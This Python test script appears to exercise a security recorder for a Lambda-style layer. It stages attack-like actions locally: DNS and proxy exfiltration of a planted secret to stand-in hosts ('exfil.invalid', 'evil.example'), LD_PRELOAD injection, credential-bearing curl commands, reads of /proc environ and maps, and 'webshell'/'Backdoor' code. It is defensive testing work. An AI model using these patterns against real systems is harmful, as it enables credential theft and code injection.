"""What a function may do, by name, behind the recorder of the layer. Prints one line of JSON, then waits for its end."""
import ctypes
import gc
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import threading

sys.path.insert(0, os.environ["RECORDER"])
SECRET = "hunter2-Zq8Wv3Lm5Rt7"


def no_handler(event, context):
    return None


def quiet(run):
    try:
        run()
    except Exception as error:
        return type(error).__name__
    return ""


def fetch():
    import http.client

    listener = socket.create_server(("127.0.0.1", 0))
    connection = http.client.HTTPConnection("127.0.0.1", listener.getsockname()[1])
    connection.request("POST", "/items/7?token=" + SECRET, SECRET, {"Authorization": "Bearer " + SECRET})
    connection.close()
    listener.close()


def look_up():
    import urllib.request

    quiet(lambda: socket.getaddrinfo(SECRET.lower() + ".exfil.invalid", 443))
    quiet(lambda: urllib.request.urlopen("ftp://user:%s@127.0.0.1:9/x?%s" % (SECRET, SECRET)))


def start_children():
    led = {**os.environ, "LD_PRELOAD": "/tmp/evil.so"}
    subprocess.run(["/bin/true", "a b", b"\xff\x00"[:1]], env=led, stdout=subprocess.PIPE)
    subprocess.run("exit 0", shell=True)
    os.system("true # system")
    os.waitpid(os.posix_spawn("/bin/true", ["true", "spawned"], os.environ), 0)


def files():
    path = "/tmp/amber-act-%d" % os.getpid()
    with open(path, "w"):
        pass
    os.chmod(path, 0o755)
    os.rename(path, path + ".enc")
    os.remove(path + ".enc")
    open("/proc/self/environ", "rb").close()
    open(b"/proc/%d/maps" % os.getppid(), "rb").close()


def code():
    eval("1 + 1")
    exec(compile("x = 2", "<webshell>", "exec"))
    path = "/tmp/amber_act_%d.py" % os.getpid()
    with open(path, "w") as module:
        module.write("loaded = True\n")
    sys.path.insert(0, "/tmp")
    __import__(os.path.basename(path)[:-3])
    os.remove(path)


def turned():
    os.environ["HTTPS_PROXY"] = "http://user:%s@evil.example:3128/?%s" % (SECRET, SECRET)
    os.environ["AWS_ENDPOINT_URL_S3"] = "https://evil.example"
    os.environ["HARMLESS"] = SECRET
    del os.environ["HTTPS_PROXY"]


def others():
    pickle.loads(pickle.dumps(os.getcwd))
    gc.get_objects()
    quiet(lambda: ctypes.CDLL("/tmp/absent.so"))
    os.kill(os.getpid(), 0)
    threading.Thread(target=no_handler, args=(None, None)).start()
    sys.settrace(None)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("127.0.0.1", 9))
    unix = socket.socket(socket.AF_UNIX)
    quiet(lambda: unix.connect("\0absent"))
    no_handler.__code__ = files.__code__


def replace():
    import http.client

    http.client.HTTPConnection.putrequest = no_handler
    __builtins__.open = no_handler
    sys.meta_path.append(type("Backdoor", (), {"find_spec": staticmethod(lambda *given: None)}))
    invocation()


def flood():
    for number in range(10_000):
        sys.audit("os.kill", number, 9)
    for _ in range(1000):
        sys.audit("os.system", b"again")


def closed():
    os.closerange(3, 4096)
    kept = [os.open("/tmp/amber-own-%d" % os.getpid(), os.O_CREAT | os.O_RDWR, 0o600) for _ in range(1200)]
    before = os.fstat(kept[0]).st_mtime_ns
    os.system("true # after")
    own = "/tmp/amber-own-%d" % os.getpid()
    result = {"size": os.path.getsize(own), "untouched": os.fstat(kept[0]).st_mtime_ns == before}
    alive = all(os.fstat(one).st_ino == os.stat(own).st_ino for one in kept)
    os.remove(own)
    return {**result, "alive": alive}


def forks():
    children = []
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            for number in range(10):
                sys.audit("os.system", b"of %d, %d" % (os.getpid(), number))
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return {"children": children}


def alarms():
    """A handler of a signal that raises between any two lines: none of its exceptions may be lost."""
    raised = []

    def ring(number, frame):
        raised.append(number)
        raise TimeoutError("time is out")

    signal.signal(signal.SIGALRM, ring)
    caught = 0
    for turn in range(300):
        try:
            signal.setitimer(signal.ITIMER_REAL, 0.0001 + turn * 0.000002)
            for _ in range(1000):
                for number in range(50):
                    sys.audit("os.system", b"%d %d" % (turn, number))
        except TimeoutError:
            caught += 1
    return {"raised": len(raised), "caught": caught}


def planted():
    """A secret for each kind of event whose text may hold one; they come from a file that is gone then."""
    with open(os.environ["PLANTED"]) as file:
        secrets = json.load(file)
    os.remove(os.environ["PLANTED"])
    os.system('curl_absent -H "Authorization: Bearer %(header)s" https://bob:%(user)s@h.invalid/?token=%(query)s' % secrets)
    led = {"LD_PRELOAD": "/tmp/x.so", "HTTPS_PROXY": "http://u:%(child)s@h.invalid" % secrets}
    subprocess.run(["true", "--password=" + secrets["argv"]], env=led)
    sys.audit("os.exec", "/bin/x", ["x", "--token", secrets["execve"]], None)
    sys.audit("os.posix_spawn", "/bin/x", ["x", "--api-key=" + secrets["spawn"]], None)
    exec(compile("password = '%(code)s'" % secrets, "<webshell>", "exec"))
    os.environ["HTTPS_PROXY"] = "http://proxy:%(variable)s@h.invalid:3128" % secrets
    os.environ["DB_PASSWORD"] = secrets["environment"]
    invocation()


def invocation():
    os.environ["_X_AMZN_TRACE_ID"] = "Root=1"


def wakes():
    signal.signal(signal.SIGUSR1, lambda number, frame: sys.audit("os.system", b"now"))


def restored():
    import snapshot_restore_py

    for run, args, kwargs in snapshot_restore_py.get_after_restore():
        run(*args, **kwargs)


def main():
    first, *acts = sys.argv[1:]
    if first == "refused":

        def refuse(event, args):
            if event == "sys.addaudithook":
                raise RuntimeError("no other hooks")

        sys.addaudithook(refuse)
    if "SNAPSHOT" in os.environ:
        hooks = []
        registry = type(sys)("snapshot_restore_py")
        registry.register_after_restore = lambda run, *args: hooks.append((run, args, {}))
        registry.get_after_restore = lambda: hooks
        sys.modules["snapshot_restore_py"] = registry
    import lambda_amber

    result = {}
    invocation()
    for act in acts:
        result.update(globals()[act]() or {})
    handler = getattr(lambda_amber.handler, "__qualname__", None)
    print(json.dumps({"handler": handler, "name": os.environ.get("_HANDLER"), **result}), flush=True)
    os.read(0, 1)


if __name__ == "__main__":
    main()
